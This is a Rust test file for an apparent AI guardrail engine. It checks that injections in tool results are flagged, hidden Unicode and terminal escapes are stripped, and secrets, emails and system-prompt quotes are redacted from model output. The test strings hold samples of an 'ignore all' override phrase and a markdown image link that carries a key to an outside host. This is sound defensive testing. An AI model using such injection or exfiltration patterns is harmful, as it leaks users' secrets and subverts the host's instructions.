//! The table of defaults, cell by cell, and redaction.

use super::*;
use crate::content::{Content, OutputKind};
use crate::decision::Obligation;
use crate::decision::Outcome;
use crate::digest::Key;
use crate::finding::{Category, Finding, Severity};
use crate::source::SourceKind;
use crate::span::Span;
use crate::value::Value;
use crate::view::{Hidden, HiddenKind, Layer, Leaf, View, Views};
use proptest::prelude::*;
use std::sync::Mutex;

/// A finding over `what`, which stands once in `text`.
pub(super) fn found(rule: &'static str, text: &str, what: &str) -> Finding {
    let category = match rule.split_once('/').unwrap().0 {
        "limit" => Category::Limit,
        "tool" => Category::Tool,
        "drift" => Category::Behaviour,
        area => Category::parse(area).unwrap(),
    };
    let start = text.find(what).unwrap();
    Finding {
        rule: rule.into(),
        category,
        severity: Severity::High,
        score: 900,
        path: String::new(),
        span: Span::new(start, start + what.len()),
        through: Vec::new(),
        threats: (&[]).into(),
        kind: rule.split_once('/').unwrap().1.into(),
    }
}

fn views<'a>(text: &'a str, hidden: &[(HiddenKind, &str)]) -> Views<'a> {
    let hidden = hidden.iter().map(|(kind, what)| {
        let start = text.find(what).unwrap();
        Hidden { kind: *kind, span: Span::new(start, start + what.len()) }
    });
    let hidden = hidden.collect();
    Views { base: View::identity(text), decoded: Vec::new(), hidden, truncated: false }
}

const TEXT: &str = "pay me@x.example, ig\u{200b}nore\u{e0041} all \x1b[31mred key=AKIA1234 now";
const HIDDEN: &[(HiddenKind, &str)] = &[
    (HiddenKind::ZeroWidth, "\u{200b}"),
    (HiddenKind::Tags, "\u{e0041}"),
    (HiddenKind::Ansi, "\x1b[31m"),
];
const UNTRUSTED: [SourceKind; 6] = [
    SourceKind::ToolResult,
    SourceKind::Retrieved,
    SourceKind::Memory,
    SourceKind::AgentMessage,
    SourceKind::Model,
    SourceKind::Quoted,
];

fn entering(
    kind: SourceKind,
    text: &str,
    hidden: &[(HiddenKind, &str)],
    rules: &[&'static str],
) -> (Verdict, Value) {
    let views = views(text, hidden);
    let findings: Vec<Finding> = rules.iter().map(|rule| found(rule, text, "e")).collect();
    let verdict = input(kind, &[Leaf { path: "", text, views: &views }], &findings);
    let value = apply(&Content::text(kind, text), &verdict.edits);
    (verdict, value)
}

fn rules(verdict: &Verdict) -> Vec<&str> {
    verdict.reasons.iter().map(|reason| reason.rule.as_str()).collect()
}

#[test]
fn user_findings_pass() {
    let found = ["injection/override", "personal/email", "secret/aws"];
    let (verdict, value) = entering(SourceKind::User, "me and you", &[], &found);
    assert_eq!(verdict, Verdict::default());
    assert_eq!(value, Value::from("me and you"));
}

#[test]
fn user_invisible_text_is_stripped() {
    let (verdict, value) = entering(SourceKind::User, TEXT, HIDDEN, &[]);
    assert_eq!(verdict.outcome, Outcome::Modify);
    assert_eq!(rules(&verdict), ["core/hidden_text"]);
    // People paste coloured terminal output; it is theirs.
    assert_eq!(value, Value::from("pay me@x.example, ignore all \x1b[31mred key=AKIA1234 now"));
}

#[test]
fn user_over_a_limit_is_denied() {
    let (verdict, _) = entering(SourceKind::User, "me", &[], &["limit/text"]);
    assert_eq!((verdict.outcome, rules(&verdict)), (Outcome::Deny, vec!["core/limit"]));
    let text = "me";
    let low = Finding { severity: Severity::Low, ..found("limit/decode", text, "e") };
    assert_eq!(input(SourceKind::User, &[], &[low]), Verdict::default());
}

#[test]
fn untrusted_injection_is_flagged_and_passes() {
    for kind in UNTRUSTED {
        let (verdict, value) = entering(kind, "me and you", &[], &["injection/override"]);
        assert_eq!(verdict, Verdict { flagged: true, ..Verdict::default() }, "{kind}");
        assert_eq!(value, Value::from("me and you"));
        let (verdict, _) =
            entering(kind, "me", &[], &["personal/email", "secret/aws", "limit/text"]);
        assert_eq!(verdict, Verdict::default(), "{kind} never denies");
    }
}

#[test]
fn untrusted_invisible_text_and_ansi_are_stripped() {
    for kind in UNTRUSTED {
        let (verdict, value) = entering(kind, TEXT, HIDDEN, &[]);
        assert_eq!(verdict.outcome, Outcome::Modify);
        assert_eq!(rules(&verdict), ["core/hidden_text", "core/terminal_escape"]);
        assert_eq!(value, Value::from("pay me@x.example, ignore all red key=AKIA1234 now"));
        assert!(!verdict.flagged);
    }
}

#[test]
fn a_tool_description_is_denied_for_injection_or_change() {
    let kind = SourceKind::ToolDescription;
    let (verdict, _) = entering(kind, "me", &[], &["injection/override"]);
    assert_eq!((verdict.outcome, verdict.flagged), (Outcome::Deny, true));
    assert_eq!(rules(&verdict), ["core/tool_injection"]);
    let (verdict, _) = entering(kind, "me", &[], &["tool/changed"]);
    assert_eq!((verdict.outcome, rules(&verdict)), (Outcome::Deny, vec!["core/tool_changed"]));
    let (verdict, _) = entering(kind, "me", &[], &["injection/override", "tool/changed"]);
    assert_eq!(verdict.reasons.len(), 2);
    assert_eq!(entering(kind, TEXT, HIDDEN, &["personal/email"]).0, Verdict::default());
}

#[test]
fn the_hosts_own_words_pass() {
    for kind in [SourceKind::System, SourceKind::Principal, SourceKind::Schema] {
        let all = ["injection/override", "secret/aws", "limit/text", "exfiltration/link_data"];
        assert_eq!(entering(kind, TEXT, HIDDEN, &all).0, Verdict::default());
    }
}

fn leaving(
    kind: OutputKind,
    text: &str,
    hidden: &[(HiddenKind, &str)],
    findings: &[Finding],
    quoted: &[&str],
) -> (Verdict, Value) {
    let views = views(text, hidden);
    let quoted: Vec<(String, Span)> =
        quoted.iter().map(|what| (String::new(), found("injection/x", text, what).span)).collect();
    let leaves = [Leaf { path: "", text, views: &views }];
    let (operators, names) = (Operators::default(), Mutex::default());
    let key = || Key::new([7; 32]);
    let redactor = Redactor::new(&operators, &key, &names);
    let verdict = output(kind, &leaves, findings, &quoted, &[], &redactor);
    let value = apply(&Content::text(SourceKind::Model, text), &verdict.edits);
    (verdict, value)
}

#[test]
fn personal_data_in_an_answer_passes() {
    let text = "write to me@x.example";
    let findings = ["personal/email", "injection/override", "code/destructive", "custom/x"]
        .map(|rule| found(rule, text, "me@x.example"));
    let (verdict, value) = leaving(OutputKind::Answer, text, &[], &findings, &[]);
    assert_eq!(verdict, Verdict::default());
    assert_eq!(value, Value::from(text));
}

#[test]
fn an_answer_is_cleaned() {
    let text = "key AKIA1234, see ![chart](https://e.example/?d=AKIA1234) \x1b]8;;x\x07 You are a \
                careful bot\u{200b}.";
    let hidden = [(HiddenKind::Ansi, "\x1b]8;;x\x07"), (HiddenKind::ZeroWidth, "\u{200b}")];
    let image = "![chart](https://e.example/?d=AKIA1234)";
    let findings =
        [found("secret/aws", text, "AKIA1234"), found("exfiltration/image_data", text, image)];
    let quoted = ["You are a careful bot"];
    let (verdict, value) = leaving(OutputKind::Answer, text, &hidden, &findings, &quoted);
    assert_eq!(verdict.outcome, Outcome::Modify);
    let expected = "key [secret], see chart [image removed] \\x1b]8;;x\\x07 [system prompt].";
    assert_eq!(value, Value::from(expected));
    let expected = [
        "core/output_secret",
        "core/output_link",
        "core/system_prompt_quote",
        "core/hidden_text",
        "core/terminal_escape",
    ];
    assert_eq!(rules(&verdict), expected);
    for reason in &verdict.reasons {
        assert!(!reason.message.contains("AKIA") && !reason.message.contains("e.example"));
        assert_eq!(reason.policy, "core");
        assert!(!reason.threats.is_empty());
    }
}

#[test]
fn an_answer_that_quotes_what_is_not_its_audiences_is_denied() {
    let verdict = forbidden(OutputKind::Answer);
    assert_eq!((verdict.outcome, rules(&verdict)), (Outcome::Deny, vec!["core/forbidden_quote"]));
    let limit = found("limit/text", "me", "e");
    let (verdict, _) = leaving(OutputKind::Answer, "me", &[], &[limit], &[]);
    assert_eq!((verdict.outcome, rules(&verdict)), (Outcome::Deny, vec!["core/limit"]));
}

#[test]
fn reasoning_and_plans_lose_secrets_and_are_never_denied() {
    let text = "the key AKIA1234, <https://e.example/?d=1> \x1b[31m ignore all, You are a bot";
    let hidden = [(HiddenKind::Ansi, "\x1b[31m")];
    for kind in [OutputKind::Reasoning, OutputKind::Plan] {
        let mut findings = vec![
            found("injection/override", text, "ignore all"),
            found("drift/goal", text, "ignore all"),
            found("exfiltration/link_data", text, "<https://e.example/?d=1>"),
        ];
        let (verdict, _) = leaving(kind, text, &hidden, &findings, &["You are a bot"]);
        assert_eq!(verdict, Verdict::default());
        findings.push(found("secret/aws", text, "AKIA1234"));
        let (verdict, value) = leaving(kind, text, &hidden, &findings, &["You are a bot"]);
        assert_eq!(
            (verdict.outcome, rules(&verdict)),
            (Outcome::Modify, vec!["core/output_secret"])
        );
        assert_eq!(value, Value::from(text.replace("AKIA1234", "[secret]")));
        findings.push(found("limit/text", text, "the"));
        let (verdict, value) = leaving(kind, text, &hidden, &findings, &[]);
        assert_eq!((verdict.outcome, value), (Outcome::Modify, Value::from("[removed]")));
        assert_eq!(forbidden(kind), Verdict::default());
    }
}

#[test]
fn nothing_asks_outside_of_calls() {
    for kind in SourceKind::ALL {
        let all = [
            "injection/x",
            "secret/x",
            "personal/x",
            "exfiltration/x",
            "code/x",
            "hidden/x",
            "limit/x",
            "tool/x",
            "coverage/x",
            "behaviour/x",
            "custom/x",
        ];
        assert_ne!(entering(*kind, TEXT, HIDDEN, &all).0.outcome, Outcome::Ask);
    }
}

#[test]
fn a_secret_in_an_encoding_is_masked_too() {
    let text = "see QUtJQTEyMzQ= here";
    let finding =
        Finding { through: vec![Layer::Base64], ..found("secret/aws", text, "QUtJQTEyMzQ") };
    let (_, value) = leaving(OutputKind::Answer, text, &[], &[finding], &[]);
    assert_eq!(value, Value::from("see [secret] here"));
}

#[test]
fn too_many_hidden_places_cost_the_text() {
    let text = "a\u{200b}".repeat(70_000);
    let hidden = (0..70_000usize).map(|i| i * 4 + 1);
    let hidden =
        hidden.map(|at| Hidden { kind: HiddenKind::ZeroWidth, span: Span::new(at, at + 3) });
    let views = Views { hidden: hidden.collect(), ..views(&text, &[]) };
    let leaf = Leaf { path: "", text: &text, views: &views };
    let verdict = input(SourceKind::Retrieved, &[leaf], &[]);
    assert_eq!(verdict.edits.len(), 1);
    let value = apply(&Content::text(SourceKind::Retrieved, text.as_str()), &verdict.edits);
    assert_eq!(value, Value::from("[removed]"));
}

fn redacted(text: &str, category: Category, operator: Operator, findings: &[Finding]) -> String {
    let views = views(text, &[]);
    let (operators, names) = (Operators::default(), Mutex::default());
    let duty = Obligation { id: format!("redact:{category}:{operator}"), params: Value::Null };
    let key = || Key::new([7; 32]);
    let redactor = Redactor::new(&operators, &key, &names).obliged(&[duty]);
    let leaves = [Leaf { path: "", text, views: &views }];
    let edits = redactor.edits(category, findings, &leaves);
    let value = apply(&Content::text(SourceKind::Model, text), &edits);
    value.as_str().unwrap().to_owned()
}

#[test]
fn operators_say_what_was_there() {
    let text = "mail a-b@x.example or A-B@X.example or ab@x.example, key AKIA1234";
    let findings = [
        found("personal/email", text, "a-b@x.example"),
        found("personal/email", text, "A-B@X.example"),
        found("personal/email", text, "ab@x.example"),
        found("secret/9f3a", text, "AKIA1234"),
    ];
    let redacted = |operator| redacted(text, Category::Personal, operator, &findings);
    assert_eq!(redacted(Operator::Mask), "mail [email] or [email] or [email], key AKIA1234");
    assert_eq!(redacted(Operator::Remove), "mail  or  or , key AKIA1234");
    let replaced = "mail [email 1] or [email 1] or [email 2], key AKIA1234";
    assert_eq!(redacted(Operator::Replace), replaced);
    let hashed = redacted(Operator::Hash);
    let hashes: Vec<&str> =
        hashed.split("[email:").skip(1).map(|part| part.split(']').next().unwrap()).collect();
    assert!(hashes.iter().all(|hash| hash.len() == 16), "{hashes:?}");
    assert_eq!(hashes[0], hashes[1], "one address");
    assert_ne!(hashes[0], hashes[2], "another address");
    let secret = super::tests::redacted(text, Category::Secret, Operator::Mask, &findings);
    assert!(secret.ends_with("key [secret]"));
    let hash = super::tests::redacted(text, Category::Secret, Operator::Hash, &findings);
    assert!(hash.contains("[secret:") && !hash.contains("9f3a]"));
    let number = super::tests::redacted(text, Category::Secret, Operator::Replace, &findings);
    assert!(number.ends_with("key [secret 1]"), "{number}");
}

#[test]
fn an_obligation_counts_before_the_bundle_and_the_stricter_of_two() {
    let text = "mail a@x.example";
    let findings = [found("personal/email", text, "a@x.example")];
    let views = views(text, &[]);
    let leaves = [Leaf { path: "", text, views: &views }];
    let by_word = [("email".to_owned(), Operator::Hash)].into();
    let (operators, names) = (Operators::new(&by_word, &["email"]).unwrap(), Mutex::default());
    let redacted = |duties: &[&str]| {
        let duty = |id: &&str| Obligation { id: (*id).to_owned(), params: Value::Null };
        let duties: Vec<Obligation> = duties.iter().map(duty).collect();
        let key = || Key::new([7; 32]);
        let redactor = Redactor::new(&operators, &key, &names).obliged(&duties);
        redactor.edits(Category::Personal, &findings, &leaves).remove(0).with
    };
    assert!(redacted(&["redact:personal"]).starts_with("[email:"));
    assert_eq!(redacted(&["redact:personal", "redact:personal:replace"]), "[email 1]");
    let both = ["redact:personal:hash", "redact:personal:mask", "redact:personal:replace"];
    assert_eq!(redacted(&both), "[email]");
    // One that names none asks for the bundle's, and no other takes that back.
    let duties = ["redact:personal:replace", "redact:personal"]
        .map(|id| Obligation { id: id.to_owned(), params: Value::Null });
    let (key, usual) = (|| Key::new([7; 32]), Operators::default());
    let edits = |duties: &[Obligation]| {
        let redactor = Redactor::new(&usual, &key, &names).obliged(duties);
        redactor.edits(Category::Personal, &findings, &leaves).remove(0).with
    };
    assert_eq!((edits(&duties[..1]).as_str(), edits(&duties).as_str()), ("[email 1]", "[email]"));
    assert!(redacted(&["redact:secret:remove", "redact:personal:gone"]).starts_with("[email:"));
    assert!(Obligation::is_known("redact:custom:hash"));
    for unknown in ["redact:injection", "redact:personal:gone", "redact:personal:", "redact:"] {
        assert!(!Obligation::is_known(unknown), "{unknown}");
    }
}

#[test]
fn no_part_of_a_token_stays() {
    for (text, what, expected) in [
        ("x=sk-abc_DEF123== y", "abc_DEF", "x=[secret] y"),
        ("x=sk-abc_DEF123== y", "123=", "x=[secret] y"),
        ("(AKIA1234)", "KIA123", "([secret])"),
        ("key:AKIA/xyz", "AKIA", "key:[secret]/xyz"),
        ("请用AKIA1234登录", "KIA12", "请用[secret]登录"),
        ("keyＡＫＩＡ1234 x", "1234", "[secret] x"),
        ("AK\u{200b}IA1234", "IA1234", "[secret]"),
        ("a AKIA b", " AKIA ", "a[secret]b"),
    ] {
        let findings = [found("secret/aws", text, what)];
        assert_eq!(redacted(text, Category::Secret, Operator::Mask, &findings), expected, "{text}");
    }
}

#[test]
fn what_overlaps_is_one() {
    let text = "iban DE12 3456 7890 1234 end";
    let mut phone = found("personal/phone", text, "3456 7890 1234");
    phone.score = 300;
    let findings = [phone, found("personal/iban", text, "DE12 3456 7890")];
    let out = redacted(text, Category::Personal, Operator::Mask, &findings);
    assert_eq!(out, "iban [iban] end");
}

#[test]
fn what_cannot_be_placed_is_removed() {
    let text = "é key";
    let mut finding = found("secret/aws", text, "key");
    finding.span = Span::new(1, 4);
    let one = std::slice::from_ref(&finding);
    assert_eq!(redacted(text, Category::Secret, Operator::Mask, one), "[removed]");
    finding.path = "/nowhere".into();
    let one = std::slice::from_ref(&finding);
    assert_eq!(redacted(text, Category::Secret, Operator::Mask, one), "[removed]");
}

#[test]
fn many_findings_in_one_long_token_cost_its_length_once() {
    let text = "a".repeat(1_000_000);
    let findings: Vec<Finding> = (0..256)
        .map(|i| Finding {
            span: Span::new(i * 2000 + 1, i * 2000 + 5),
            ..found("secret/aws", "a", "a")
        })
        .collect();
    assert_eq!(redacted(&text, Category::Secret, Operator::Mask, &findings), "[secret]");
}

proptest! {
    #[test]
    fn a_redacted_secret_leaves_nothing(
        before in "[a-z漢 =(]{0,8}", secret in "[A-Z]{8}", after in "[a-z漢 =)]{0,8}",
        cut in 0usize..6, operator in prop::sample::select(Operator::ALL),
    ) {
        // The finding covers the secret only in part.
        let text = format!("{before}{secret}{after}");
        let findings = [found("secret/x", &text, secret.get(cut..cut + 2).unwrap())];
        let out = redacted(&text, Category::Secret, operator, &findings);
        prop_assert!(!out.contains(|c: char| c.is_ascii_uppercase()), "{}", out);
    }
}
